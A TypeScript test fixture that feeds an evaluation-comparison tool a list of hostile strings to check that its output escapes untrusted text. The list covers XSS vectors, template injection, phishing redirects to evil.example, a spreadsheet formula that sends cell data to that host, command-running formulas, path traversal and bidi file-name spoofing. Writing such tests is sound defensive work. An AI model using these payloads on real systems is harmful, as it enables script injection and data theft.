/** A comparison in which every text that a model, a person or a file could write is an attack. */

import { type PreparedComparison, writtenComparison } from './comparisons.ts';

/** Sets a mark that tests look for, in as many ways as texts become code. */
const MARK = 'window.__attacked=1';

/** Short attacks; each is a text that somebody may have written. */
export const ATTACKS: readonly string[] = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<img src=x onerror="${MARK}">`,
  `<svg onload="${MARK}"><animate onbegin="${MARK}" attributeName=x dur=1s>`,
  `"><iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `javascript:${MARK}`,
  `[click](javascript:${MARK}) ![x](https://evil.example/a.png)`,
  `{{constructor.constructor('${MARK}')()}} \${${MARK}} #{${MARK}} <%= ${MARK} %>`,
  `<a href="https://evil.example/" autofocus onfocus="${MARK}" tabindex=1>here</a>`,
  `<style>*{display:none!important}</style><link rel=stylesheet href=https://evil.example/a.css>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><form action=/login><input name=password>`,
  `<!--<script>`,
  `' onmouseover='${MARK}' x='`,
  `\u202e\u2066gnp.exe\u2069\u200f\u061c`,
  `\u0000\u0007\u001b[31mred\u001b]0;title\u0007\u009b2J`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `Z${'\u0300\u0301\u0302\u0303'.repeat(40)}algo`,
  `\u2028\u2029\ufeff\u00ad`,
  'W'.repeat(4000),
  `__proto__`,
  `constructor`,
  `../../../../etc/passwd`,
  `CON:\\\\evil.example\\share`,
];

/** A page long enough to stop a browser that lays all of it out. */
export const LONG_OUTPUT = `${ATTACKS[0]}${'all work and no play '.repeat(500_000)}`;

const CASES_EACH = 26;

/** Both runs, cut by two hostile columns; the candidate fails more of the first attacks. */
export function hostileComparison(): PreparedComparison {
  const rows = (side: 'old' | 'new') =>
    ATTACKS.flatMap((attack, a) =>
      Array.from({ length: CASES_EACH }, (_, i) => ({
        case_id: `${attack} #${i}`,
        segment: attack,
        '<img src=x onerror=window.__attacked=1>': ATTACKS[(a + i) % ATTACKS.length],
        input: `${attack} asks ${i}`,
        expected: ATTACKS[(a + 1) % ATTACKS.length],
        output: a === 0 && i === 0 && side === 'new' ? LONG_OUTPUT : `${attack} ${side} ${attack}`,
        judge: ATTACKS[2],
        rationale: attack,
        tags: [attack, ATTACKS[(a + 2) % ATTACKS.length]],
        passed: side === 'old' ? i % 9 !== 0 : a < 3 ? i % 2 === 0 : i % 10 !== 0,
      })),
    )
      .map((row) => `${JSON.stringify(row)}\n`)
      .join('');
  const old = `old"><img src=x onerror=window.__attacked=1>.jsonl`;
  const next = `new\u202e<script>window.__attacked=1<(script).jsonl`;
  return writtenComparison(
    { [old]: rows('old'), [next]: rows('new'), 'slicewise.yaml': CONFIG(old, next) },
    [],
  );
}

const CONFIG = (old: string, next: string) => `inputs:
  runs:
    baseline: ${JSON.stringify(old)}
    candidate: ${JSON.stringify(next)}
slices:
  - segment
  - ${JSON.stringify('<img src=x onerror=window.__attacked=1>')}
ledger: ledger.db
`;
